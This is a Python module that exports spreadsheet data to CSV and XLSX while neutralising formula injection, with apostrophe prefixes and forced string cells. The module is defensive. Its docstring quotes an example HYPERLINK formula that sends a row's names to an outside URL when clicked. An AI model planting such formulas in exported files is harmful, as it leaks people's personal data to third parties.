"""Export cells that a spreadsheet program shows as text, never runs as a formula.

A text cell starting with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is read
as a formula by Excel, LibreOffice and Google Sheets when a CSV file is opened
(``=HYPERLINK("http://…?d="&C2&D2,"Apri")`` sends the row's names away when clicked).
Nothing a real name may hold is refused: the cell is *neutralised* instead.

- **CSV**: such a cell gets a leading apostrophe (OWASP's advice for CSV injection): the
  program shows the text as text; the original is the cell without its first character.
- **XLSX**: the cell is written as a string cell (never a formula, whatever it starts
  with) with the "quote prefix" style, so the visible text is exactly the original and
  editing the cell does not turn it into a formula either.

Numbers, booleans, dates and empty cells are written as they are.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable, Sequence
from datetime import date, datetime
from typing import Any

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
"""The first characters that make a spreadsheet program read a cell as a formula."""

Cell = str | int | float | bool | date | datetime | None


def risky(text: str) -> bool:
    """Whether a text cell would be read as a formula."""
    return text.startswith(FORMULA_STARTS)


def safe_cell(value: Any) -> Any:
    """``value`` for a CSV export: text that would start a formula gets a leading ``'``.

    Anything but text (numbers, booleans, dates, None) is returned unchanged.
    """
    if isinstance(value, str) and risky(value):
        return "'" + value
    return value


def csv_bytes(
    header: Sequence[str],
    rows: Iterable[Sequence[Any]],
    *,
    bom: bool = True,
    lineterminator: str = "\r\n",
    delimiter: str = ",",
) -> bytes:
    """A CSV file (UTF-8, with a BOM for Excel by default) whose every text cell is safe
    (``delimiter=";"`` for Italian office software, whose decimal sign is the comma)."""
    buf = io.StringIO()
    w = csv.writer(buf, lineterminator=lineterminator, delimiter=delimiter)
    w.writerow([safe_cell(h) for h in header])
    for row in rows:
        w.writerow([safe_cell(v) for v in row])
    return buf.getvalue().encode("utf-8-sig" if bom else "utf-8")


def xlsx_bytes(
    sheets: Sequence[tuple[str, Sequence[str], Iterable[Sequence[Any]]]],
    *,
    number_formats: Sequence[str | None] = (),
) -> bytes:
    """An XLSX workbook of ``(sheet name, header, rows)``: every text cell a string cell.

    openpyxl would store a string beginning with ``=`` as a live formula; here every
    ``str`` is written with the string type and the quote-prefix style, whatever it holds.
    ``number_formats`` gives, column by column, the format of its numeric cells
    (``'#,##0.00 "€"'``; None: the default).
    """
    from openpyxl import Workbook
    from openpyxl.cell import WriteOnlyCell

    wb = Workbook(write_only=True)

    def cell(ws: Any, value: Any, k: int = -1) -> Any:
        if not isinstance(value, str):
            fmt = number_formats[k] if 0 <= k < len(number_formats) else None
            if fmt and isinstance(value, int | float) and not isinstance(value, bool):
                c = WriteOnlyCell(ws, value=value)
                c.number_format = fmt
                return c
            return value
        c = WriteOnlyCell(ws, value=None)
        c._value = value  # bypass openpyxl's type guess ("=…" → formula)
        c.data_type = "s"
        if risky(value):
            c.quotePrefix = True  # shown as text, and stays text when edited
        return c

    for name, header, rows in sheets:
        ws = wb.create_sheet(name[:31])
        ws.append([cell(ws, h) for h in header])
        for row in rows:
            ws.append([cell(ws, v, k) for k, v in enumerate(row)])
    out = io.BytesIO()
    wb.save(out)
    return out.getvalue()
